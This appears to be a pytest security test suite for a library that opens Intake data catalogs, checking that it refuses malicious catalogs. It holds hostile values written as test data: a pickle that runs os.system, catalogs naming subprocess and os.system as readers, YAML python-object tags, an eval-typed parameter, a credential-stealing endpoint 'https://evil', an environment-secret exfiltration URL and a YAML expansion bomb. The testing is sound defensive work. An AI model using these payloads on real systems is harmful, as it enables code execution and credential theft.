"""Catalogs from elsewhere open only with readers that read: each of these would run a command in plain Intake."""

import base64
import json
import pickle
from contextlib import suppress
from copy import deepcopy

import intake
import polars as pl
import pytest
import yaml

import hven
from hven.catalog import allowed
from hven.catalog.sealing import sealed
from hven.errors import CatalogFormatError, SourceUnreachableError, UntrustedCatalogError

READERS, TYPES = "intake.readers.readers", "intake.readers.datatypes"
PARAMETERS = "intake.readers.user_parameters"


@pytest.fixture
def canary(tmp_path):
    """A file that the attacks would make."""
    return tmp_path / "canary"


@pytest.fixture
def stars(tmp_path):
    path = tmp_path / "stars.csv"
    pl.DataFrame({"ra": [1.0, 2.0], "dec": [3.0, 4.0]}).write_csv(path)
    return path


@pytest.fixture
def good(stars):
    """A harmless catalog: one CSV file."""
    return {
        "version": 2,
        "metadata": {},
        "user_parameters": {},
        "aliases": {"stars": "stars"},
        "data": {
            "file": {
                "datatype": f"{TYPES}:CSV",
                "kwargs": {"url": "{CATALOG_DIR}/stars.csv"},
                "metadata": {},
                "user_parameters": {},
            }
        },
        "entries": {
            "stars": {
                "reader": f"{READERS}:PolarsCSV",
                "kwargs": {"args": ["{data(file)}"]},
                "output_instance": "polars:LazyFrame",
                "metadata": {"title": "Two stars"},
                "user_parameters": {},
            }
        },
    }


def write(tmp_path, catalog, name="catalog.yaml"):
    path = tmp_path / name
    text = catalog if isinstance(catalog, str) else (yaml.safe_dump if name.endswith("yaml") else json.dumps)(catalog)
    path.write_text(text)
    return str(path)


class Touch:
    """What pickles to a command."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        import os

        return os.system, (f"touch '{self.path}'",)


def running(canary):
    """Arguments of Intake's ``Condition``, which calls its condition."""
    return {"condition": "{func(os:system)}", "command": f"touch '{canary}'", "if_true": 1, "if_false": 0}


def by_reader(catalog, canary):
    """The reader itself is a function that runs a command."""
    catalog["entries"]["stars"] |= {"reader": "subprocess:run", "kwargs": {"args": ["touch", str(canary)]}}


def by_datatype(catalog, canary):
    catalog["data"]["file"] |= {"datatype": "subprocess:Popen", "kwargs": {"args": ["touch", str(canary)]}}


def by_func_in_arguments(catalog, canary):
    """``Condition`` calls what the catalog names."""
    catalog["entries"]["stars"] |= {"reader": f"{READERS}:Condition", "kwargs": running(canary)}


def by_func_in_an_allowed_reader(catalog, canary):
    catalog["entries"]["stars"]["kwargs"]["with_column_names"] = "{func(os:system)}"


def by_func_in_an_allowed_argument(catalog, canary):
    catalog["entries"]["stars"]["kwargs"]["separator"] = "{func(os:getcwd)}"


def by_import_template(catalog, canary):
    catalog["data"]["file"]["kwargs"]["url"] = "{import(antigravity)}"


def by_pickle(catalog, canary):
    text = base64.b64encode(pickle.dumps(Touch(canary))).decode()
    catalog["data"]["file"]["kwargs"]["url"] = f"{{pickle64({text})}}"


def by_user_parameter(catalog, canary):
    """Defaults of parameters are templates without braces."""
    catalog["user_parameters"]["run"] = {"cls": f"{PARAMETERS}:BaseUserParameter", "default": "func(os:system)"}
    by_func_in_arguments(catalog, canary)
    catalog["entries"]["stars"]["kwargs"]["condition"] = "{run}"


def by_user_parameter_of_an_entry(catalog, canary):
    catalog["entries"]["stars"]["user_parameters"]["name"] = {"default": "func(os:getcwd)"}


def by_class_of_a_parameter(catalog, canary):
    catalog["user_parameters"]["name"] = {"cls": "antigravity:open", "default": "1"}


def by_type_of_a_parameter(catalog, canary):
    catalog["user_parameters"]["name"] = {
        "cls": f"{PARAMETERS}:SimpleUserParameter", "dtype": "eval", "default": "__import__('os').system('true')",
    }  # fmt: skip


def by_hidden_class(catalog, canary):
    """Intake imports the ``cls`` of any item."""
    catalog["data"]["file"]["cls"] = "antigravity:open"


def by_python_file(catalog, canary):
    code = canary.parent / "code.py"
    code.write_text(f"import pathlib; pathlib.Path({str(canary)!r}).touch()")
    catalog["data"]["file"] |= {"datatype": f"{TYPES}:PythonSourceCode", "kwargs": {"url": str(code)}}
    catalog["entries"]["stars"]["reader"] = f"{READERS}:PythonModule"


def by_pickled_model(catalog, canary):
    model = canary.parent / "model.pkl"
    model.write_bytes(pickle.dumps(Touch(canary)))
    catalog["data"]["file"] |= {"datatype": f"{TYPES}:SKLearnPickleModel", "kwargs": {"url": str(model)}}
    catalog["entries"]["stars"]["reader"] = f"{READERS}:SKLearnModelReader"


def by_server(catalog, canary):
    catalog["entries"]["stars"] |= {"reader": f"{READERS}:LlamaServerReader", "kwargs": {"args": ["{data(file)}"]}}


def by_retry(catalog, canary):
    catalog["entries"]["stars"] |= {"reader": f"{READERS}:Retry", "kwargs": {"args": ["{data(file)}"]}}


def by_pipeline(catalog, canary):
    catalog["entries"]["stars"] |= {
        "reader": "intake.readers.convert:Pipeline",
        "kwargs": {
            "readers": ["{data(file)}"], "output_instances": ["x"], "steps": [["{func(os:system)}", [], {}]],
        },
    }  # fmt: skip


def by_attribute_chain(catalog, canary):
    """A module that is on the list, and a name of another module inside it."""
    catalog["entries"]["stars"] |= {"reader": f"{READERS}:os.system", "kwargs": {"args": [f"touch '{canary}'"]}}


def by_prefix(catalog, canary):
    catalog["entries"]["stars"]["reader"] = f"{READERS}:PolarsCSV.__init__.__globals__"


def by_relative_module(catalog, canary):
    catalog["entries"]["stars"]["reader"] = "intake.readers.readers.../evil:PolarsCSV"


def by_unknown_package(catalog, canary):
    catalog["entries"]["stars"]["reader"] = "evil_intake.readers.readers:PolarsCSV"


def by_output(catalog, canary):
    catalog["entries"]["stars"]["output_instance"] = "antigravity:open"


def by_chained_address(catalog, canary):
    """References are rendered by templates that reach Python."""
    catalog["data"]["file"]["kwargs"]["url"] = "reference::/tmp/x.json"


def by_storage_option(catalog, canary):
    catalog["data"]["file"]["kwargs"]["storage_options"] = {"fo": {"templates": {"u": "{{ cycler.__init__ }}"}}}


def by_engine(catalog, canary):
    catalog["entries"]["stars"]["reader"] = f"{READERS}:XArrayDatasetReader"
    catalog["entries"]["stars"]["kwargs"]["engine"] = "kerchunk"


def by_guessed_engine(catalog, canary):
    """Left to guess, xarray would open it as Zarr, whose codecs may unpickle."""
    catalog["entries"]["stars"]["reader"] = f"{READERS}:XArrayDatasetReader"
    catalog["data"]["file"]["kwargs"]["url"] = "{CATALOG_DIR}/stars.zarr"


def by_token(catalog, canary):
    catalog["data"]["file"]["kwargs"] = {"url": "gs://x/stars.csv", "storage_options": {"token": "key.json"}}


def by_endpoint(catalog, canary):
    """The credentials of whoever opens it would be sent there."""
    catalog["data"]["file"]["kwargs"] = {"url": "s3://x/y.csv", "storage_options": {"endpoint_url": "https://evil"}}


def by_address_from_a_parameter(catalog, canary):
    catalog["user_parameters"]["how"] = {"default": "reference"}
    catalog["data"]["file"]["kwargs"]["url"] = "{how}://x"


def by_attribute_in_a_template(catalog, canary):
    catalog["data"]["file"]["kwargs"]["url"] = "{CATALOG_DIR.__class__}/stars.csv"


def by_environment(catalog, canary):
    """No command, but what the environment holds would be sent away."""
    catalog["data"]["file"]["kwargs"]["url"] = "https://example.org/{env(AWS_SECRET_ACCESS_KEY)}"


def by_mode_that_writes(catalog, canary):
    catalog["entries"]["stars"]["reader"] = f"{READERS}:FITSReader"
    catalog["entries"]["stars"]["kwargs"]["mode"] = "update"


def by_reader_of_a_reader(catalog, canary):
    catalog["entries"]["other"] = deepcopy(catalog["entries"]["stars"])
    catalog["entries"]["stars"]["kwargs"]["args"] = ["{data(other)}"]


ATTACKS = [value for name, value in list(globals().items()) if name.startswith("by_")]
RUN = [by_func_in_arguments, by_user_parameter, by_python_file, by_pickled_model]
"""Those of which plain Intake is shown to run the command."""


@pytest.mark.parametrize("ending", ["yaml", "json"])
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_a_catalog_that_would_run_something_is_refused_before_anything_is_made(
    attack, ending, good, canary, tmp_path, monkeypatch
):
    monkeypatch.setattr("intake.readers.utils.import_name", lambda name: pytest.fail(f"{name} was imported"))
    monkeypatch.setattr("intake.readers.entry.import_name", lambda name: pytest.fail(f"{name} was imported"))
    attack(good, canary)
    path = write(tmp_path, good, f"catalog.{ending}")
    kind = CatalogFormatError if attack is by_hidden_class else UntrustedCatalogError
    with pytest.raises(kind) as refused:
        hven.open_catalog(path)
    assert path in refused.value.where
    assert "line" in refused.value.where
    if kind is UntrustedCatalogError:
        assert refused.value.code == "catalog-untrusted"
        assert "trust=True" in refused.value.hint
    assert not canary.exists()


@pytest.mark.parametrize("attack", RUN, ids=lambda attack: attack.__name__)
def test_plain_intake_runs_what_hven_refuses(attack, good, canary, tmp_path):
    attack(good, canary)
    path = write(tmp_path, good)
    with pytest.raises(UntrustedCatalogError):
        hven.open_catalog(path)
    assert not canary.exists()
    with suppress(Exception):
        intake.from_yaml_file(path)["stars"].read()
    assert canary.exists(), "the attack is real"


def test_a_refusal_names_the_entry_the_line_and_the_name(good, canary, tmp_path):
    by_attribute_chain(good, canary)
    path = write(tmp_path, good)
    with pytest.raises(UntrustedCatalogError) as refused:
        hven.open_catalog(path)
    lines = (tmp_path / "catalog.yaml").read_text().splitlines()
    line = 1 + next(i for i, text in enumerate(lines) if "os.system" in text)
    assert refused.value.where == f"{path}, entry 'stars', line {line}"
    assert "'intake.readers.readers:os.system'" in refused.value.what


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system [touch {canary}]",
        "!!python/object/new:os.system [touch {canary}]",
        "!!python/name:os.system",
        "!!python/module:antigravity",
        "!evil x",
    ],
)
def test_tags_of_yaml_make_no_objects(tag, canary, tmp_path):
    path = write(tmp_path, "version: 2\nmetadata: " + tag.format(canary=canary))
    for trust in (False, True):
        with pytest.raises(UntrustedCatalogError, match="tag") as refused:
            hven.open_catalog(path, trust=trust)
        assert refused.value.where == f"{path}, line 2"
    assert not canary.exists()


def test_a_catalog_inside_a_catalog_is_checked_when_it_is_read(good, canary, tmp_path):
    inner = deepcopy(good)
    by_func_in_arguments(inner, canary)
    write(tmp_path, inner, "inner.yaml")
    good["data"]["file"] |= {"datatype": f"{TYPES}:YAMLFile", "kwargs": {"url": "{CATALOG_DIR}/inner.yaml"}}
    good["entries"]["stars"] |= {
        "reader": f"{READERS}:YAMLCatalogReader",
        "output_instance": "intake.readers.entry:Catalog",
    }
    outer = hven.open_catalog(write(tmp_path, good))
    with pytest.raises(UntrustedCatalogError, match="Condition"):
        outer["stars"].read()
    assert not canary.exists()


def test_a_good_catalog_inside_a_catalog_opens(good, tmp_path):
    write(tmp_path, good, "inner.yaml")
    outer = deepcopy(good)
    outer["data"]["file"] |= {"datatype": f"{TYPES}:YAMLFile", "kwargs": {"url": "{CATALOG_DIR}/inner.yaml"}}
    outer["entries"]["stars"] |= {
        "reader": f"{READERS}:YAMLCatalogReader",
        "output_instance": "intake.readers.entry:Catalog",
    }
    inner = hven.open_catalog(write(tmp_path, outer))["stars"].read()
    assert inner["stars"].read().collect()["ra"].to_list() == [1.0, 2.0]


@pytest.mark.parametrize("ending", ["yaml", "json"])
def test_a_catalog_that_only_reads_opens_and_reads(good, ending, tmp_path):
    catalog = hven.open_catalog(write(tmp_path, good, f"catalog.{ending}"))
    assert list(catalog) == ["stars"]
    assert catalog["stars"].metadata["title"] == "Two stars"
    assert catalog["stars"].read().collect()["dec"].to_list() == [3.0, 4.0]


def test_entries_without_a_name_are_listed_under_their_key(good, tmp_path):
    good["aliases"] = {}
    catalog = hven.open_catalog(write(tmp_path, good))
    assert list(catalog) == ["stars"]
    assert catalog["stars"].read().collect().height == 2


def test_what_intake_writes_itself_opens(good, tmp_path, stars):
    from intake.readers.datatypes import CSV
    from intake.readers.readers import PolarsCSV

    written = intake.readers.entry.Catalog()
    written["stars"] = PolarsCSV(CSV(str(stars)))
    written.to_yaml_file(str(tmp_path / "written.yaml"))
    catalog = hven.open_catalog(str(tmp_path / "written.yaml"))
    [name] = [name for name in catalog if name == "stars"] or list(catalog)
    assert catalog[name].read().collect().height == 2


def test_trust_opens_what_the_author_of_a_catalog_knows(good, canary, tmp_path):
    by_func_in_arguments(good, canary)
    catalog = hven.open_catalog(write(tmp_path, good), trust=True)
    assert not canary.exists(), "opening alone runs nothing"
    catalog["stars"].read()
    assert canary.exists()


def test_parameters_that_are_declared_fill_addresses(good, tmp_path):
    good["data"]["file"]["kwargs"]["url"] = "{CATALOG_DIR}/{name}.csv"
    good["user_parameters"]["name"] = {
        "cls": f"{PARAMETERS}:SimpleUserParameter", "dtype": "str", "default": "stars", "description": "which",
    }  # fmt: skip
    catalog = hven.open_catalog(write(tmp_path, good))
    assert catalog["stars"].read().collect().height == 2
    assert catalog(name="others")["stars"].data.url.endswith("/others.csv")


def test_a_catalog_that_repeats_itself_without_end_is_refused(tmp_path):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    with pytest.raises(CatalogFormatError, match="too large"):
        hven.open_catalog(write(tmp_path, "\n".join(lines)))
    with pytest.raises(CatalogFormatError, match="too large"):
        hven.open_catalog(write(tmp_path, "version: 2\nmetadata: &m [*m]"))


def test_deeply_nested_text_is_refused_not_a_crash(tmp_path):
    with pytest.raises(CatalogFormatError):
        hven.open_catalog(write(tmp_path, "[" * 20_000))


def test_a_catalog_that_is_not_there_says_so(tmp_path):
    with pytest.raises(SourceUnreachableError, match="No such file") as refused:
        hven.open_catalog(str(tmp_path / "none.yaml"))
    assert refused.value.code == "source-unreachable"


def test_every_name_on_the_list_exists_and_none_runs_code():
    from intake import import_name
    from intake.readers.datatypes import BaseData
    from intake.readers.readers import BaseReader

    assert all(issubclass(import_name(name), BaseData) for name in allowed.DATATYPES)
    assert all(issubclass(import_name(name), BaseReader) for name in allowed.READERS)
    never = ("Pickle", "Python", "SKLearn", "Keras", "Torch", "SQL", "Llama", "OpenAI", "Tiled", "Service", "Retry")
    never += (
        "Condition",
        "Pipeline",
        "Duck",
        "Spark",
        "Ray",
        "Huggingface",
        "NPYStack",
        "DaskHDF",
        "PandasHDF",
        "Zarr",
    )
    for name in (*allowed.DATATYPES, *allowed.READERS):
        assert not any(word in name for word in never), name


def test_a_lake_whose_catalog_was_tampered_with_runs_nothing_through_hven(small_lake, canary, tmp_path):
    import shutil

    place = tmp_path / "tampered"
    shutil.copytree(small_lake.url, place)
    [newest] = sorted((place / "catalogs").glob("*.json"))[-1:]
    catalog = json.loads(newest.read_text())
    catalog["entries"]["stars:reader"] |= {"reader": f"{READERS}:Condition", "kwargs": running(canary)}
    newest.write_bytes(sealed(catalog))  # By someone who knows how.
    lake = hven.open(place)
    assert lake["stars"].table().collect().height == small_lake["stars"].table().collect().height
    assert not canary.exists(), "hven reads the pins itself"
    with pytest.raises(UntrustedCatalogError, match="Condition"):
        hven.open_catalog(str(newest))
    assert not canary.exists()
    intake.from_yaml_file(str(newest))["stars"].read()
    assert canary.exists(), "plain Intake runs it: a lake's catalog is code to Intake"


def test_the_catalog_of_a_lake_opens_as_a_catalog_from_elsewhere(small_lake):
    from pathlib import Path

    newest = max((Path(small_lake.url) / "catalogs").glob("*.json"))
    catalog = hven.open_catalog(str(newest))
    assert catalog["stars"].read().collect().equals(small_lake["stars"].table().collect())


PAYLOADS = [
    "antigravity:open", "{func(antigravity:open)}", "{import(antigravity:open)}", "func(antigravity:open)",
    "{pickle64(gASVBgAAAAAAAACMAm9zlC4=)}", "{data(stars)}", "{data(file)}", "data(stars)", "{env(PATH)}",
    "{part.__class__}",
    "{0}", "{part!r}", "{part:>9}", "{", "reference::file:///x", "python://x", "intake.readers.readers:PythonModule",
    ["{func(antigravity:open)}"], {"cls": "antigravity:open", "default": "{func(antigravity:open)}"},
]  # fmt: skip


def places(value, path=()):
    """Every place in a catalog, and every mapping that a key could be added to."""
    if isinstance(value, dict):
        yield (*path, "added")
        for key, inner in value.items():
            yield (*path, key)
            yield from places(inner, (*path, key))
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield (*path, number)
            yield from places(inner, (*path, number))


def test_wherever_a_dangerous_value_stands_nothing_outside_the_list_is_imported(good, tmp_path, monkeypatch):
    imported = []
    for module in ("entry", "user_parameters", "utils", "readers"):
        name = f"intake.readers.{module}.import_name"
        original = intake.import_name
        monkeypatch.setattr(name, lambda dotted, original=original: imported.append(dotted) or original(dotted))
    good["user_parameters"]["part"] = {"cls": f"{PARAMETERS}:BaseUserParameter", "default": "stars", "description": ""}
    harmless = {*allowed.DATATYPES, *allowed.READERS, *allowed.PARAMETERS, "polars:scan_csv"}
    opened = refused = 0
    for path in places(good):
        for payload in PAYLOADS:
            catalog = deepcopy(good)
            inner = catalog
            for step in path[:-1]:
                inner = inner[step]
            inner[path[-1]] = payload
            try:
                found = hven.open_catalog(write(tmp_path, catalog, "catalog.json"))
                opened += 1
            except (UntrustedCatalogError, CatalogFormatError):
                refused += 1
                continue
            for name in list(found):
                with suppress(Exception):
                    found[name].read()
    assert set(imported) <= harmless
    assert opened > 50
    assert refused > 300
